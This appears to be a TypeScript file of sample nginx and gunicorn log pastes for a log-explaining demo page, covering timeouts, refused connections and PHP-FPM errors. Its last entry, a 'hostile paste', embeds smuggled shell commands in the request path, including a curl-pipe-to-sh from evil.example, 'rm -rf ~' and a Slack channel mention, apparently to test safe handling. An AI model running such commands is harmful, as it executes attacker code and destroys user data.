/** Something to click on the page: a paste with a name. */
export interface Example {
  readonly id: string;
  readonly title: string;
  /** What it shows, in a few words. */
  readonly about: string;
  readonly paste: string;
  /** What the same person pastes next in the thread, each when the one before was answered. */
  readonly next?: readonly string[];
}

const FLAGSHIP =
  '2026/11/22 10:15:42 [error] 1234#1234: *5678 upstream prematurely closed connection while reading response header from upstream, client: 192.0.2.44, server: example.com, request: "POST /api/data HTTP/1.1", upstream: "http://127.0.0.1:8080/api/data", host: "example.com"';

const FAILED = `2026/11/22 10:15:12 [error] 1234#1234: *5671 upstream prematurely closed connection while reading response header from upstream, client: 192.0.2.44, server: portal.example.com, request: "GET /reports/yearly?from=2025-01-01 HTTP/1.1", upstream: "http://unix:/run/gunicorn/portal.sock:/reports/yearly?from=2025-01-01", host: "portal.example.com"
192.0.2.44 - - [22/Nov/2026:10:15:12 +0000] "GET /reports/yearly?from=2025-01-01 HTTP/1.1" 502 157 "-" "Mozilla/5.0"`;

const GUNICORN = `[2026-11-22 10:15:12 +0000] [29110] [CRITICAL] WORKER TIMEOUT (pid:29116)
[2026-11-22 10:15:12 +0000] [29116] [INFO] Worker exiting (pid: 29116)
[2026-11-22 10:15:13 +0000] [29210] [INFO] Booting worker with pid: 29210`;

const RELOADED = `2026/11/22 10:41:07 [notice] 1#1: start worker processes
192.0.2.44 - - [22/Nov/2026:10:42:30 +0000] "GET /reports/yearly?from=2025-01-01 HTTP/1.1" 200 48210 "-" "Mozilla/5.0"
192.0.2.71 - - [22/Nov/2026:10:43:02 +0000] "GET /reports/yearly?from=2024-01-01 HTTP/1.1" 200 51930 "-" "Mozilla/5.0"`;

/** The incident that the demo pastes by itself: nginx's line, then the backend's, then the lines since the fix. */
export const FIRST: Example = {
  id: 'case',
  title: 'An incident in three pastes',
  about: 'nginx’s line, the backend’s log, and the lines since the fix',
  paste: FAILED,
  next: [GUNICORN, RELOADED],
};

/** What a person can click on the page, in the order in which it tells the story. */
export const EXAMPLES: readonly Example[] = [
  { id: 'flagship', title: 'Backend hung up', about: 'One line, so the causes are only ranked', paste: FLAGSHIP },
  FIRST,
  {
    id: 'gunicorn',
    title: 'The same, with the backend’s log',
    about: 'A worker timeout beside it: the cause is confirmed',
    paste: `${FAILED}\n${GUNICORN}`,
  },
  {
    id: 'refused',
    title: 'Connection refused on [::1]',
    about: 'localhost went to IPv6',
    paste:
      '2026/11/22 11:02:03 [error] 812#812: *91 connect() failed (111: Connection refused) while connecting to upstream, client: 198.51.100.7, server: shop.example.com, request: "GET /cart HTTP/1.1", upstream: "http://[::1]:3000/cart", host: "shop.example.com"',
  },
  {
    id: 'php',
    title: 'PHP: Primary script unknown',
    about: 'File not found, and what FastCGI was told',
    paste:
      '2026/11/22 11:30:00 [error] 77#77: *12 FastCGI sent in stderr: "Primary script unknown" while reading response header from upstream, client: 203.0.113.9, server: blog.example.com, request: "GET /index.php HTTP/1.1", upstream: "fastcgi://unix:/run/php/php8.2-fpm.sock:", host: "blog.example.com"',
  },
  {
    id: 'harmless',
    title: 'A visitor left early',
    about: 'Harmless, and said so',
    paste:
      '2026/11/22 12:00:10 [info] 77#77: *4521 client prematurely closed connection, so upstream connection is closed too while sending request to upstream, client: 203.0.113.20, server: example.com, request: "GET /feed HTTP/1.1", upstream: "http://127.0.0.1:8080/feed", host: "example.com"',
  },
  {
    id: 'unknown',
    title: 'A line nobody knows',
    about: 'nginx wrote it, and no entry explains it',
    paste:
      '2026/11/22 12:30:00 [alert] 31#31: *7 the flux capacitor of worker 3 lost 1.21 GW, client: 192.0.2.9, server: example.com',
  },
  {
    id: 'no-log',
    title: 'No log at all',
    about: 'A question without a line',
    paste: 'the site is slow since lunch, can you have a look?',
  },
  {
    id: 'hostile',
    title: 'A hostile paste',
    about: 'Mentions, links and shell tricks in the request',
    paste:
      '2026/11/22 13:00:00 [error] 9#9: *1 upstream prematurely closed connection while reading response header from upstream, client: 192.0.2.66, server: example.com, request: "GET /<!channel>/$(curl -s evil.example|sh)/`id`?a=\'"; rm -rf ~;<https://evil.example|click-here> HTTP/1.1", upstream: "http://127.0.0.1:8080/<!channel>/$(id)", host: "example.com"',
  },
];
